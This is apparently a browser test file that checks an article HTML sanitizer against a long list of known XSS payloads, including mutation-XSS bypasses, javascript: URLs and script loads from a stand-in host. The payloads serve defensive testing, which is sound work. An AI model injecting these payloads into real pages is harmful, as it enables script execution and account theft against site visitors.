import { afterEach, describe, expect, it, vi } from 'vitest';
import { ALLOWED_ATTR, ALLOWED_TAGS, sanitizeArticleHtml } from './sanitize.ts';

/**
 * The sanitizer against known XSS payloads (OWASP's filter-evasion cheat sheet, PortSwigger's XSS cheat
 * sheet, DOMPurify's own past bypasses): whatever an article's HTML holds, nothing executable reaches
 * the page, and the allowed markup comes out as it went in. Runs in Chromium (the parser that matters).
 */

/** The sanitized HTML as a string (a TrustedHTML in Chromium, whose toString is the HTML). */
const text = (value: string | TrustedHTML): string =>
  // eslint-disable-next-line @typescript-eslint/no-base-to-string -- TrustedHTML stringifies to its HTML
  typeof value === 'string' ? value : value.toString();
const clean = (html: string) => text(sanitizeArticleHtml(html));

const SVG_B64 = 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'; // <svg onload=alert(1)>
const HTML_B64 = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>

/** [category and name, payload]. Every payload is distinct; a test checks there are at least 50. */
const PAYLOADS: readonly (readonly [string, string])[] = [
  // Script tags
  ['script: plain', '<script>alert(1)</script>'],
  ['script: upper case', '<SCRIPT>alert(1)</SCRIPT>'],
  ['script: mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script: nested to rebuild', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script: external src', '<script src="https://evil.example/x.js"></script>'],
  ['script: slash junk before src', '<script/xss src="data:,alert(1)"></script>'],
  ['script: double open bracket', '<<script>alert(1);//<</script>'],
  ['script: inside a paragraph', '<p>text<script>alert(1)</script></p>'],
  ['script: module', '<script type="module">import("https://evil.example/x.js")</script>'],
  ['script: unclosed', '<script>alert(1)'],
  // Event handlers
  ['handler: img onerror', '<img src=x onerror=alert(1)>'],
  ['handler: IMG ONERROR upper case', '<IMG SRC=x ONERROR=alert(1)>'],
  ['handler: entity-encoded handler body', '<img src=x onerror="&#97;lert(1)">'],
  ['handler: slashes as separators', '<img/src="x"/onerror=alert(1)>'],
  ['handler: newline before =', '<img src="x" onerror\n=alert(1)>'],
  ['handler: half-open img', '<img src=x onerror=alert(1)// <b>x</b>'],
  ['handler: body onload', '<body onload=alert(1)>'],
  ['handler: p onmouseover', '<p onmouseover="alert(1)">hover</p>'],
  ['handler: input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['handler: select autofocus onfocus', '<select autofocus onfocus=alert(1)></select>'],
  ['handler: textarea autofocus onfocus', '<textarea autofocus onfocus=alert(1)></textarea>'],
  ['handler: details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['handler: svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
  ['handler: a onclick', '<a href="/" onclick="alert(1)">x</a>'],
  ['handler: video source onerror', '<video><source onerror=alert(1)></video>'],
  ['handler: audio onerror', '<audio src=x onerror=alert(1)></audio>'],
  ['handler: marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['handler: onpointerenter on an allowed tag', '<strong onpointerenter=alert(1)>x</strong>'],
  ['handler: svg onload', '<svg onload=alert(1)>'],
  ['handler: iframe onload', '<iframe onload=alert(1)></iframe>'],
  // javascript:, vbscript: and data: URLs
  ['url: href javascript:', '<a href="javascript:alert(1)">x</a>'],
  ['url: href JAVASCRIPT: upper case', '<a href="JAVASCRIPT:alert(1)">x</a>'],
  ['url: href &#106;avascript:', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['url: href &#x6A;avascript:', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  [
    'url: href all decimal entities without semicolons',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ],
  ['url: href jav&#x61;script:', '<a href="jav&#x61;script:alert(1)">x</a>'],
  ['url: href javascript&colon;', '<a href="javascript&colon;alert(1)">x</a>'],
  ['url: href tab split', '<a href="java\tscript:alert(1)">x</a>'],
  ['url: href encoded tab split', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['url: href newline split', '<a href="java\nscript:alert(1)">x</a>'],
  ['url: href encoded newline split', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['url: href leading spaces', '<a href="   javascript:alert(1)">x</a>'],
  ['url: href leading control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['url: href leading encoded control character', '<a href="&#14;javascript:alert(1)">x</a>'],
  ['url: href javascript:// comment then newline', '<a href="javascript://%0aalert(1)">x</a>'],
  ['url: href vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['url: href data:text/html base64', `<a href="data:text/html;base64,${HTML_B64}">x</a>`],
  ['url: href DATA:text/html upper case', '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'],
  ['url: href data:image/svg+xml', `<a href="data:image/svg+xml;base64,${SVG_B64}">x</a>`],
  ['url: img src javascript:', '<img src="javascript:alert(1)" alt="x">'],
  ['url: iframe src javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['url: form action javascript:', '<form action="javascript:alert(1)"><input type=submit></form>'],
  ['url: button formaction javascript:', '<form><button formaction="javascript:alert(1)">x</button></form>'],
  ['url: input formaction javascript:', '<input type="image" formaction="javascript:alert(1)" src=x>'],
  [
    'url: svg a xlink:href javascript:',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  ],
  ['url: math href javascript:', '<math href="javascript:alert(1)">CLICK</math>'],
  ['url: blockquote cite javascript:', '<blockquote cite="javascript:alert(1)">q</blockquote>'],
  ['url: isindex action', '<isindex action="javascript:alert(1)" type="image">'],
  // SVG and MathML
  ['svg: script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['svg: script with xlink:href', '<svg><script xlink:href="data:,alert(1)"></script></svg>'],
  [
    'svg: foreignObject with iframe srcdoc',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  [
    'svg: foreignObject with img onerror',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  ],
  [
    'svg: set href to javascript:',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  ],
  [
    'svg: animate href values javascript:',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  ],
  ['svg: use with data: document', `<svg><use href="data:image/svg+xml;base64,${SVG_B64}#x"/></svg>`],
  ['svg: image onerror', '<svg><image href="x" onerror="alert(1)"/></svg>'],
  ['svg: style @import', "<svg><style>@import 'https://evil.example/x.css';</style></svg>"],
  [
    'mathml: mglyph style mutation (DOMPurify 2.0.0 bypass)',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['mathml: mglyph style img onerror', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  [
    'mathml: form nesting mutation (DOMPurify 2.0.17 bypass)',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['svg: p closes into style mutation', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'mathml: maction xlink:href',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  // CSS
  ['css: background url javascript:', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['css: expression()', '<p style="width: expression(alert(1))">x</p>'],
  ['css: behavior htc', '<p style="behavior: url(xss.htc)">x</p>'],
  ['css: -moz-binding', '<p style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</p>'],
  ['css: style @import', "<style>@import 'https://evil.example/x.css';</style><p>x</p>"],
  ['css: style url javascript:', '<style>p{background:url("javascript:alert(1)")}</style><p>x</p>'],
  ['css: link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  // Embedding and navigation
  ['embed: iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['embed: srcdoc on an allowed tag', '<p srcdoc="<script>alert(1)</script>">x</p>'],
  ['embed: object data javascript:', '<object data="javascript:alert(1)"></object>'],
  ['embed: object data data:text/html', `<object data="data:text/html;base64,${HTML_B64}"></object>`],
  ['embed: embed src javascript:', '<embed src="javascript:alert(1)">'],
  ['embed: embed flash', '<embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">'],
  ['embed: applet', '<applet code="Evil.class"></applet>'],
  ['embed: base href javascript:', '<base href="javascript:alert(1)//"><a href="/x">x</a>'],
  ['embed: base href other site', '<base href="https://evil.example/"><a href="x">x</a>'],
  ['embed: meta refresh javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  [
    'embed: meta refresh data:',
    `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${HTML_B64}">`,
  ],
  ['embed: portal', '<portal src="https://evil.example/"></portal>'],
  // Parser differentials (template, noscript, raw-text elements, foster parenting, comments)
  [
    'mxss: noscript title breakout',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ],
  ['mxss: template script', '<template><script>alert(1)</script></template>'],
  ['mxss: template img onerror', '<template><img src=x onerror=alert(1)></template>'],
  ['mxss: img inside table (foster parenting)', '<table><img src=x onerror=alert(1)></table>'],
  [
    'mxss: svg desc table inside a cell',
    '<table><tr><td><svg><desc><table><img src=x onerror=alert(1)></table></desc></svg></td></tr></table>',
  ],
  ['mxss: noembed title breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  [
    'mxss: textarea title breakout',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  ],
  ['mxss: title element', '<title><img src=x onerror=alert(1)></title>'],
  ['mxss: iframe raw text breakout', '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'],
  ['mxss: xmp raw text', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['mxss: comment breakout', '<!--><img src=x onerror=alert(1)>-->'],
  ['mxss: CDATA in HTML', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  [
    'mxss: annotation-xml foreignobject style comment',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
  ],
  // DOM clobbering
  ['clobbering: form name=cookie', '<form name="cookie"><input name="value"></form>'],
  ['clobbering: img name=getElementById', '<img name="getElementById" src="/a.png" alt="x">'],
  ['clobbering: a id=__proto__', '<a id="__proto__" href="/x">x</a>'],
  ['clobbering: img id and name location', '<img id="location" name="location" src="/a.png" alt="x">'],
  [
    'clobbering: nested anchors defaultView',
    '<a id="defaultView"></a><a id="defaultView" name="alert" href="cid:alert(1)">x</a>',
  ],
];

/** Elements that must never come out, whatever the allow-list says. */
const FORBIDDEN_ELEMENTS =
  'script, iframe, frame, frameset, object, embed, applet, base, meta, link, form, input, button, ' +
  'textarea, select, style, svg, math, template, noscript, portal';

/** Attributes whose value the browser treats as a URL. */
const URL_ATTRIBUTES = [
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'cite',
  'background',
  'poster',
];

/** A URL as the browser reads it: without spaces, tabs, newlines or control characters, lower case. */
const normalizeUrl = (value: string) =>
  // eslint-disable-next-line no-control-regex -- stripping control characters is the point
  value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();

const EXECUTABLE_URL = /^(?:javascript:|vbscript:|data:text\/html)/;
/** A link may not open a data: document of any kind (an image may show a data: picture). */
const DATA_URL = /^data:/;

/** The sanitized HTML parsed in an inert document (nothing runs or loads), as the page would parse it. */
function parse(html: string): HTMLElement {
  return new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html').body;
}

/** Everything that would make the sanitized HTML executable, as readable findings (none is expected). */
function findExecutable(root: HTMLElement): string[] {
  const findings: string[] = [];
  // The container itself (a stray <body onload> lands on the document's body) takes no handler either.
  for (const { name } of root.attributes) {
    if (name.toLowerCase().startsWith('on')) findings.push(`<${root.localName} ${name}>`);
  }
  for (const element of root.querySelectorAll(FORBIDDEN_ELEMENTS)) {
    findings.push(`element <${element.localName}>`);
  }
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName;
    if (!ALLOWED_TAGS.includes(tag)) findings.push(`element <${tag}> outside the allow-list`);
    for (const { name, value } of element.attributes) {
      const lower = name.toLowerCase();
      if (lower.startsWith('on')) findings.push(`<${tag} ${name}>`);
      if (lower === 'srcdoc' || lower === 'style' || lower === 'id' || lower === 'name') {
        findings.push(`<${tag} ${name}>`);
      }
      if (!ALLOWED_ATTR.includes(lower)) findings.push(`<${tag} ${name}> outside the allow-list`);
      if (URL_ATTRIBUTES.includes(lower) && EXECUTABLE_URL.test(normalizeUrl(value))) {
        findings.push(`<${tag} ${name}="${value}">`);
      }
      if (lower === 'href' && DATA_URL.test(normalizeUrl(value)))
        findings.push(`<${tag} ${name}="${value}">`);
    }
  }
  return findings;
}

describe('sanitizeArticleHtml against known XSS payloads', () => {
  it('has at least 50 distinct payloads', () => {
    expect(new Set(PAYLOADS.map(([, payload]) => payload)).size).toBe(PAYLOADS.length);
    expect(new Set(PAYLOADS.map(([name]) => name)).size).toBe(PAYLOADS.length);
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
  });

  it.each(PAYLOADS)(
    '%s: the checker flags the raw payload (so a pass means the sanitizer removed it)',
    (_name, payload) => {
      expect(findExecutable(parse(payload))).not.toEqual([]);
    },
  );

  it.each(PAYLOADS)('%s: nothing executable survives', (_name, payload) => {
    const output = clean(payload);
    expect(findExecutable(parse(output))).toEqual([]);
    // Parsed inside a <template> (another insertion mode) it is just as inert.
    const template = document.createElement('template');
    template.innerHTML = output;
    const wrapper = document.createElement('div');
    wrapper.append(template.content.cloneNode(true));
    expect(findExecutable(wrapper)).toEqual([]);
  });

  it.each(PAYLOADS)('%s: the output is stable (no mutation when parsed again)', (_name, payload) => {
    const output = clean(payload);
    // A mutation-XSS output changes when the browser parses and serializes it again; a clean one does not.
    expect(parse(output).innerHTML).toBe(output);
    expect(clean(output)).toBe(output);
  });

  describe('rendered into the live page', () => {
    afterEach(() => {
      vi.restoreAllMocks();
      document.body.querySelector('[data-xss-canary]')?.remove();
    });

    it('notices a handler that runs (control: the raw payload, unsanitized)', async () => {
      const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
      const container = document.createElement('div');
      container.setAttribute('data-xss-canary', '');
      document.body.append(container);
      container.innerHTML = '<img src="/no-such-image.png" onerror="alert(1)">';
      await expect.poll(() => alert.mock.calls).toEqual([[1]]);
    });

    it('runs no payload: no alert once every image has loaded or failed', async () => {
      const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
      const container = document.createElement('div');
      container.setAttribute('data-xss-canary', '');
      document.body.append(container);
      for (const [, payload] of PAYLOADS) {
        const section = document.createElement('section');
        section.innerHTML = clean(payload);
        container.append(section);
      }
      // Handlers such as onerror fire when the image settles: wait for each to finish.
      await Promise.all(
        Array.from(container.querySelectorAll('img'), (image) =>
          image.complete
            ? Promise.resolve()
            : new Promise<void>((resolve) => {
                image.addEventListener('load', () => resolve(), { once: true });
                image.addEventListener('error', () => resolve(), { once: true });
              }),
        ),
      );
      for (const element of container.querySelectorAll<HTMLElement>('*')) {
        element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        element.dispatchEvent(new FocusEvent('focus'));
      }
      expect(alert).not.toHaveBeenCalled();
    });
  });
});

/** Markup an author may use; it must come out as it went in (images lazy, external links safe, already). */
const ALLOWED_MARKUP: readonly (readonly [string, string])[] = [
  ['headings', '<h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>'],
  ['paragraphs and breaks', '<p>One line<br>and the next</p><hr><p>Another paragraph</p>'],
  ['unordered list', '<ul><li>one</li><li>two <strong>bold</strong></li></ul>'],
  ['ordered and nested lists', '<ol><li>first<ul><li>inner</li></ul></li><li>second</li></ol>'],
  ['relative link', '<p><a href="/blog/mental-loops">read more</a></p>'],
  ['fragment link', '<p><a href="#section-2">jump</a></p>'],
  ['link with a title', '<p><a href="/pricing" title="Plans and prices">pricing</a></p>'],
  [
    'external link, already safe',
    '<p><a href="https://example.com/study" rel="noopener noreferrer" target="_blank">a study</a></p>',
  ],
  [
    'mailto and tel links',
    '<p><a href="mailto:hello@example.com">mail</a> <a href="tel:+905551112233">call</a></p>',
  ],
  [
    'image with alt and size',
    '<p><img src="/images/cover.png" alt="A calm lake" width="1200" height="630" loading="lazy"></p>',
  ],
  [
    'external image with a title',
    '<p><img src="https://cdn.example.com/a.jpg" alt="Chart" title="Mood over a week" loading="lazy"></p>',
  ],
  [
    'figure with caption',
    '<figure><img src="/images/wheel.png" alt="The emotion wheel" loading="lazy"><figcaption>The wheel</figcaption></figure>',
  ],
  [
    'emphasis',
    '<p><strong>strong</strong> <b>b</b> <em>em</em> <i>i</i> <u>u</u> <s>s</s> <mark>mark</mark> <small>small</small> H<sub>2</sub>O x<sup>2</sup></p>',
  ],
  [
    'quotes and citations',
    '<blockquote><p>Notice it, name it.</p></blockquote><p><q>short</q> — <cite>A book</cite></p>',
  ],
  [
    'code and pre',
    '<p>Press <kbd>Enter</kbd> or run <code>npm test</code></p><pre><code>const x = 1;\nif (x &lt; 2) {}</code></pre>',
  ],
  [
    'table with header, body, footer and caption',
    '<table><caption>Moods</caption><thead><tr><th scope="col">Day</th><th scope="col">Mood</th></tr></thead>' +
      '<tbody><tr><td>Mon</td><td>Calm</td></tr><tr><td colspan="2">Tue off</td></tr></tbody>' +
      '<tfoot><tr><th scope="row" rowspan="1">Total</th><td>2</td></tr></tfoot></table>',
  ],
  ['language and direction', '<p lang="tr-TR">Merhaba</p><p lang="ar" dir="rtl">مرحبا</p>'],
  ['escaped text that looks like markup', '<p>1 &lt; 2 &amp;&amp; &lt;script&gt; is text</p>'],
];

describe('sanitizeArticleHtml keeps allowed markup unchanged', () => {
  it.each(ALLOWED_MARKUP)('%s', (_name, markup) => {
    const output = parse(clean(markup));
    const expected = parse(markup);
    expect(output.isEqualNode(expected), `${output.innerHTML}\n!==\n${expected.innerHTML}`).toBe(true);
  });
});
